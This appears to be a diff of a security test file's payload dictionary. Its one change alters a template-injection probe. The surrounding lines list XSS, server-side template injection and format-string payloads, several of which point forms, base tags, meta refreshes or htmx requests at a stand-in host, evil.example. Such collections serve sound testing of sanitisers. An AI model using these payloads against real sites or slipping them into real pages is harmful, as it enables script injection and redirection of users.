@@ -30,7 +30,7 @@ PAYLOADS = {
     "comment": "<!-- --!><iframe srcdoc='<script>alert(1)</script>'></iframe>",
     "form": "<form action=//evil.example><button formaction=javascript:alert(1)>",
     "base": "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
-    "template": "{{ 7|add:7 }}{% debug %}{% csrf_token %}{# no #}",
+    "template": "{{ 7|add:7 }}{% debug %}{% lorem %}{# no #}",
     "format": "%s %(x)s {0} {x.__class__} ${7*7} #{7*7}",
     "htmx": "<div hx-get=//evil.example hx-trigger=load data-hx-on:load=alert(1)></div>",
     "entities": "&lt;b&gt; &#60;b&#62; &amp;lt;script&amp;gt;",
